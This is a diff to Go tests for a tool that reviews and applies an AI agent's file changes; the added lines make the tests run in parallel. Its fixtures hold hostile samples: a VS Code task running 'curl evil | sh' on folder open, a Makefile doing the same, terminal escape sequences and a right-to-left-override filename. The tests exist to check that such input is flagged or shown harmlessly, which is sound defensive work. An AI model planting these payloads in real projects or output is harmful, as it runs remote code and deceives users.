@@ -239,6 +239,7 @@ var base = map[string]string{"a.txt": "a\n", "b.txt": "b\n", "c.txt": "c\n"}
 var agentChanges = map[string]string{"a.txt": "a changed\n", "b.txt": "", "new.txt": "new\n"}
 
 func TestPromptApplyAll(t *testing.T) {
+	t.Parallel()
 	f := newFixture(t, base, agentChanges)
 	tm, tty := newTerm(t)
 	done := runOnTTY(t, Options{Apply: f.options(), Color: true}, tty)
@@ -263,6 +264,7 @@ func TestPromptApplyAll(t *testing.T) {
 }
 
 func TestPromptReviewThenKeep(t *testing.T) {
+	t.Parallel()
 	f := newFixture(t, base, agentChanges)
 	tm, tty := newTerm(t)
 	done := runOnTTY(t, Options{Apply: f.options(), Color: true}, tty)
@@ -286,6 +288,7 @@ func TestPromptReviewThenKeep(t *testing.T) {
 }
 
 func TestPromptSelect(t *testing.T) {
+	t.Parallel()
 	f := newFixture(t, base, agentChanges)
 	tm, tty := newTerm(t)
 	done := runOnTTY(t, Options{Apply: f.options()}, tty)
@@ -313,6 +316,7 @@ func TestPromptSelect(t *testing.T) {
 // the deletion of lib; the selection must not widen to everything under
 // lib/ as a directory prefix would — the user chose one line of the list.
 func TestSelectIsExact(t *testing.T) {
+	t.Parallel()
 	f := newFixture(t, map[string]string{"lib": "old\n", "a.txt": "a\n"},
 		map[string]string{"lib": "", "lib/.vscode/tasks.json": `{"tasks":[{"label":"x","command":"curl evil | sh","runOptions":{"runOn":"folderOpen"}}]}` + "\n", "lib/util.go": "package lib\n"})
 	tm, tty := newTerm(t)
@@ -345,6 +349,7 @@ func TestSelectIsExact(t *testing.T) {
 }
 
 func TestPromptDiscard(t *testing.T) {
+	t.Parallel()
 	f := newFixture(t, base, agentChanges)
 	tm, tty := newTerm(t)
 	done := runOnTTY(t, Options{Apply: f.options()}, tty)
@@ -369,6 +374,7 @@ func TestPromptDiscard(t *testing.T) {
 }
 
 func TestPromptConflict(t *testing.T) {
+	t.Parallel()
 	f := newFixture(t, map[string]string{"f.txt": "1\n2\n3\n"}, map[string]string{"f.txt": "1\nagent\n3\n"})
 	write(t, filepath.Join(f.ws, "f.txt"), "1\nmine\n3\n") // the user edits it after the session
 	tm, tty := newTerm(t)
@@ -392,6 +398,7 @@ func TestPromptConflict(t *testing.T) {
 }
 
 func TestNoTTY(t *testing.T) {
+	t.Parallel()
 	for _, applyAll := range []bool{false, true} {
 		t.Run(map[bool]string{false: "kept", true: "--apply"}[applyAll], func(t *testing.T) {
 			f := newFixture(t, base, agentChanges)
@@ -419,6 +426,7 @@ func TestNoTTY(t *testing.T) {
 
 // TestTerminalInjection: names and contents cannot drive the terminal.
 func TestTerminalInjection(t *testing.T) {
+	t.Parallel()
 	evilName := "x\u202egpj.exe"
 	f := newFixture(t, map[string]string{"a.txt": "a\n"}, map[string]string{"a.txt": "a\x1b]0;pwned\x07\x1b[2J\n", evilName: "e\n"})
 	var out bytes.Buffer
@@ -499,6 +507,7 @@ const hostileText = "esc\x1b[2J\x1b[3J\x1b[H bel\x07 bs\x08 cr\r del\x7f c1\u009
 // names, a not-carried reason and contents holding every class of
 // character: nothing reaches the terminal raw, and each shows as an escape.
 func TestHostileNamesOnTerminal(t *testing.T) {
+	t.Parallel()
 	agent := map[string]string{"conflict.txt": "1\nagent " + hostileText}
 	for name := range hostileNames {
 		agent[name] = hostileText
@@ -551,6 +560,7 @@ func TestHostileNamesOnTerminal(t *testing.T) {
 // Makefile and the CI workflow "apply all" would write are listed after it,
 // flagged, just above the prompt.
 func TestForgedChangeSetCannotHideFiles(t *testing.T) {
+	t.Parallel()
 	fake := "\x1b[2J\x1b[3J\x1b[HThe agent changed: 0 added, 1 modified, 0 deleted, +1 −0 lines\n\n    1  M  README.md  +1 −0\n"
 	f := newForgedFixture(t, map[string]string{"README.md": "r\n"},
 		map[string]string{"README.md": "r2\n", "Makefile": "all:\n\tcurl evil | sh\n", ".github/workflows/ci.yml": "on: push\n"},
@@ -581,6 +591,7 @@ func TestForgedChangeSetCannotHideFiles(t *testing.T) {
 // totals are still on the screen above the prompt, the first time and after
 // the diff was paged.
 func TestFlaggedStayNextToPrompt(t *testing.T) {
+	t.Parallel()
 	agent := map[string]string{"Makefile": "all:\n", ".github/workflows/ci.yml": "on: push\n", "README.md": "r2\n"}
 	for i := range 5000 {
 		agent[fmt.Sprintf("gen/f%04d.txt", i)] = "x\n"
@@ -611,6 +622,7 @@ func TestFlaggedStayNextToPrompt(t *testing.T) {
 }
 
 func TestParseSelection(t *testing.T) {
+	t.Parallel()
 	tests := []struct {
 		in   string
 		want []int
